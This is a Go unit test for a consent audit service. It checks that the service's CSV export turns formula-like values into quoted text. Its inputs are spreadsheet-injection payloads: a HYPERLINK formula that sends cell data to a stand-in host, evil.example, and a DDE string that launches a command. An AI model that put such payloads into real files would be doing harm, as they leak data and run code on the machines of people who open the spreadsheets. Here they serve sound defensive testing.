package audit_test

import (
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/consentry/consentry/services/audit-sink/internal/audit"
)

// TestConsentCSVNeutralisesFormulas: a value a caller chose (a source, a policy version,
// a purpose) that a spreadsheet would evaluate reaches the CSV as text.
func TestConsentCSVNeutralisesFormulas(t *testing.T) {
	for _, evil := range []string{`=HYPERLINK("https://evil.example/?"&A1,"open")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"} {
		t.Run(evil, func(t *testing.T) {
			at := time.Date(2026, 11, 1, 9, 0, 0, 0, time.UTC)
			history := []audit.Entry{{Seq: 1, EventID: "e1", Type: audit.TypeConsentChanged, OccurredAt: &at, RecordedAt: &at,
				Source: evil, PolicyVersion: evil, Details: map[string]any{"purposes": map[string]any{evil: evil}}}}
			var b strings.Builder
			if err := csv.NewWriter(&b).WriteAll(audit.ConsentCSV(history)); err != nil {
				t.Fatal(err)
			}
			rows, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
			if err != nil || len(rows) != 2 {
				t.Fatalf("%d rows, %v:\n%s", len(rows), err, b.String())
			}
			for i, cell := range rows[1] {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("column %s starts a formula: %q", audit.ConsentCSVHeader[i], cell)
				}
			}
			if rows[1][2] != "'"+evil {
				t.Errorf("source %q, want the value behind a quote", rows[1][2])
			}
		})
	}
	if got := audit.CSVCell("2026-11-01T09:00:00Z"); got != "2026-11-01T09:00:00Z" {
		t.Errorf("a harmless value changed: %q", got)
	}
}
